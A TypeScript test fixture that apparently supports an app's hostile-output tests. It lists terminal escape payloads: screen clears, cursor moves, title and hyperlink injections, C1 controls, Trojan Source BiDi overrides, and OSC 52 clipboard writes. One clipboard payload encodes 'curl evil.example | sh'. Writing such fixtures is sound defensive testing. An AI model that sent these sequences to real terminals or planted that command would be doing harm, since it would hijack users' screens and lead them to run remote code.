/**
 * A corpus of terminal escape payloads a hostile model (or a quoted web page) could send, for the
 * hostile-output suites in test/faults.
 */

/** One hostile payload, and the words of it that must never reach the screen. */
export interface Payload {
  name: string;
  text: string;
  hidden: string[];
}

export const PAYLOADS: Payload[] = [
  { name: 'clear screen + home', text: '\x1b[2J\x1b[3J\x1b[H', hidden: [] },
  { name: 'full reset (RIS)', text: '\x1bc', hidden: [] },
  // Counts larger than any screen here, so the pty tests can tell them from the UI's own moves.
  {
    name: 'cursor moves (CUP, CUU, CHA, CNL, save/restore)',
    text: '\x1b[10;20H\x1b[777A\x1b[888G\x1b[999E\x1b7X\x1b8\x1b[s\x1b[u',
    hidden: [],
  },
  { name: 'leave the alternate screen, mouse and paste modes', text: '\x1b[?1049l\x1b[?1000l\x1b[?2004l\x1b[?25l', hidden: [] },
  { name: 'device status / title report requests', text: '\x1b[6n\x1b[21t\x1b[c', hidden: [] },
  { name: 'SGR from the model (conceal, colours)', text: '\x1b[8mhidden-by-conceal\x1b[0m\x1b[38;5;196m', hidden: [] },
  {
    name: 'OSC 52 clipboard write (BEL)',
    text: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
    hidden: ['Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=='],
  },
  { name: 'OSC 52 clipboard write (ST)', text: '\x1b]52;p;cGFzdGVqYWNr\x1b\\', hidden: ['cGFzdGVqYWNr'] },
  { name: 'OSC 8 hyperlink', text: '\x1b]8;;https://evil.example/osc8\x1b\\innocent\x1b]8;;\x1b\\', hidden: ['evil.example/osc8'] },
  {
    name: 'window title (OSC 0 and 2)',
    text: '\x1b]0;pwned-title-0\x07\x1b]2;pwned-title-2\x1b\\',
    hidden: ['pwned-title-0', 'pwned-title-2'],
  },
  { name: 'DCS (XTGETTCAP, sixel)', text: '\x1bP+q544e\x1b\\\x1bPq#0;2;0;0;0#0~~@@vv@@~~\x1b\\', hidden: ['+q544e', '#0;2;0;0;0'] },
  {
    name: 'SOS / PM / APC strings',
    text: '\x1bXsos-data\x1b\\\x1b^pm-data\x1b\\\x1b_apc-data\x1b\\',
    hidden: ['sos-data', 'pm-data', 'apc-data'],
  },
  {
    name: 'C1 controls (8-bit CSI, OSC, DCS, NEL, RI, ST)',
    text: '\u009b2J\u009d0;c1-title\u009c\u0090c1-dcs\u009c\u0085\u008d\u009c',
    hidden: ['c1-title', 'c1-dcs'],
  },
  { name: 'C0 controls (BEL, BS, CR overwrite, VT, FF, NUL, DEL)', text: 'ab\x08\x08XY\rOVER\x07\x0b\x0c\x00\x7f', hidden: [] },
  {
    name: 'BiDi overrides and isolates (Trojan Source)',
    text: 'access\u202e\u2066 level = "user"\u2069\u2066 // admin\u202c\u202d\u202a\u202b',
    hidden: [],
  },
  { name: 'zero-width characters', text: 'pa\u200bss\u2060wo\ufeffrd', hidden: [] },
  { name: 'unterminated OSC at the end of the text', text: '\x1b]52;c;dW50ZXJtaW5hdGVk', hidden: ['dW50ZXJtaW5hdGVk'] },
  { name: "markdown link (only inkwell's own OSC 8)", text: '[click me](https://evil.example/mdlink)', hidden: [] },
];
